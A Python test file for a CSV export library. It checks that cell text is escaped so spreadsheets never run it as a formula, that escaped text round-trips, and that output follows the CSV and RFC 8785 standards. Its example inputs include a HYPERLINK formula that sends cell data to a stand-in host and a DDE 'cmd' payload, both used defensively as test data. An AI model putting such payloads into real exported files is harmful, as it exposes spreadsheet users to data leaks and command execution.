"""Cells of tables: whatever a text holds, it comes back, and no spreadsheet runs it."""

import csv
import json
import math
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sourcebook.model.canonical import canonical, digest
from sourcebook.plan.data.sheet import BYTE_ORDER_MARK, Cell, Column, cell, csv_of, original
from tests.tools.building import ROOT

RUN = "=+-@\uff1d\uff0b\uff0d\uff20"
HARD = "=+-@\t\r\n'\";, \uff1d\uff20a1\u200b\ufeff«"
texts = st.text() | st.text(alphabet=HARD)
numbers = st.integers(-10, 10**9) | st.floats(-180, 180, allow_nan=False)


@given(texts)
@example("'=1")
@example("' =1")
@example(";'\t=1")
@example("''")
@example('=HYPERLINK("https://elsewhere.example/?"&A1);\'=2')
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert original(cell(text)) == text


@given(texts)
@example("\u200b =1")
@example("a;=cmd|' /C calc'!A0")
def test_no_cell_begins_a_formula_wherever_it_is_cut(text: str) -> None:
    """Where semicolons part cells, a spreadsheet cuts at them, and at each end of a line."""
    written = cell(text)
    pieces = [written]
    for separator in ";\t\r\n":
        pieces += [part for piece in pieces for part in piece.split(separator)]
    begins = [piece.strip().lstrip("\u200b\ufeff").strip()[:1] for piece in pieces]
    assert not {begin for begin in begins if begin} & set(RUN)


@given(st.lists(st.tuples(texts, texts, numbers), max_size=5))
def test_python_reads_what_was_written(rows: list[tuple[str, str, float]]) -> None:
    columns = [Column(name, "string", "") for name in ("one", "two", "three")]
    text = csv_of(columns, rows)
    assert text.startswith(BYTE_ORDER_MARK)
    # Not `splitlines`: it ends lines where the standard does not.
    found = list(csv.reader(_lines(text.removeprefix(BYTE_ORDER_MARK))))
    assert found[0] == ["one", "two", "three"]
    told = [(original(one), original(two), float(three)) for one, two, three in found[1:]]
    assert told == [(one, two, float(three)) for one, two, three in rows]


def _lines(text: str) -> list[str]:
    return [f"{line}\n" for line in text.split("\n")[:-1]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-3.5, "-3.5"),  # a number is none that anybody runs
        ("-3.5", "'-3.5"),
        ("Don’t - stop; here", "Don’t - stop; here"),
    ],
)
def test_what_a_cell_says(value: Cell, written: str) -> None:
    assert cell(value) == written


def test_a_table_has_the_form_of_the_standard() -> None:
    columns = [Column("a", "string", ""), Column("b", "string", "")]
    text = csv_of(columns, [('say "no"', "one\ntwo"), (None, "x,y")])
    assert text == '\ufeffa,b\r\n"say ""no""","one\ntwo"\r\n,"x,y"\r\n'


plain = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(10**9), 10**9)
    | st.floats(-180, 180).map(lambda number: round(number, 5)).filter(math.isfinite)
    | st.text(alphabet=st.characters(exclude_categories=["Cs"])),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text("abc-_", max_size=5), inner, max_size=4)
    ),
    max_leaves=12,
)


@given(plain)
@example({"b": 1, "a": 0.00001})
def test_the_canonical_form_says_the_same_in_one_way(data: object) -> None:
    written = canonical(data)
    assert json.loads(written) == data
    assert canonical(json.loads(written)) == written


def test_the_canonical_form_is_that_of_rfc_8785() -> None:
    data = {"b": [True, None, 0.00001, 30.5, -7], "a": '€\n\u2028<"\\', "A": {}}
    expected = '{"A":{},"a":"€\\n\u2028<\\"\\\\","b":[true,null,0.00001,30.5,-7]}'
    assert canonical(data) == expected.encode()
    assert Decimal("0.00001") == Decimal(repr(0.00001))
    assert digest({}) == "44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"


@given(texts)
def test_what_the_document_tells_to_do_gives_the_text(text: str) -> None:
    document = (ROOT / "docs" / "data.md").read_text(encoding="utf-8")
    ((pattern, instead),) = re.findall(r'    r"(\(\\A.*)",\n    r"(.*)",', document)
    assert re.sub(pattern, instead, cell(text)) == text
